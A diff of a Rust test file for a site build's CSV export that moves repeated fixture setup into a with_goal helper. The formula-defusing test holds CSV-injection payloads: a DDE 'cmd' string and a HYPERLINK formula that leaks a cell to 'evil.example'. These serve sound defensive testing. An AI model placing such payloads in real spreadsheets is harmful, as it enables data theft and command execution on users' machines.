@@ -69,17 +69,19 @@ aim = """
 """
 "#;
 
+/// The minimal site with `goal` appended to `kikaku/2021.toml`.
+fn with_goal(goal: &str) -> Fixture {
+    let file = "content/departments/kikaku/2021.toml";
+    let kikaku = format!(
+        "{}{goal}",
+        MINIMAL.iter().find(|(p, _)| *p == file).unwrap().1
+    );
+    Fixture::minimal_with(&[(file, kikaku.as_str())])
+}
+
 #[test]
 fn goals_csv_opens_in_excel_with_quoted_japanese_text() {
-    let kikaku = format!(
-        "{}{TRICKY_GOAL}",
-        MINIMAL
-            .iter()
-            .find(|(p, _)| *p == "content/departments/kikaku/2021.toml")
-            .unwrap()
-            .1
-    );
-    let fx = Fixture::minimal_with(&[("content/departments/kikaku/2021.toml", kikaku.as_str())]);
+    let fx = with_goal(TRICKY_GOAL);
     let out = fx.built();
     let (bytes, rows) = read_csv(&out, "goals.csv");
     // Every line break outside and inside fields is CRLF.
@@ -169,15 +171,7 @@ status = "-2+3+cmd|' /C calc'!A0"
 /// negative ones too — stay plain numbers.
 #[test]
 fn csv_cells_that_look_like_formulas_are_defused() {
-    let kikaku = format!(
-        "{}{FORMULA_GOAL}",
-        MINIMAL
-            .iter()
-            .find(|(p, _)| *p == "content/departments/kikaku/2021.toml")
-            .unwrap()
-            .1
-    );
-    let fx = Fixture::minimal_with(&[("content/departments/kikaku/2021.toml", kikaku.as_str())]);
+    let fx = with_goal(FORMULA_GOAL);
     let out = fx.built();
     let title = r#"=HYPERLINK("https://evil.example/?leak="&A1,"詳細はこちら")"#;
 
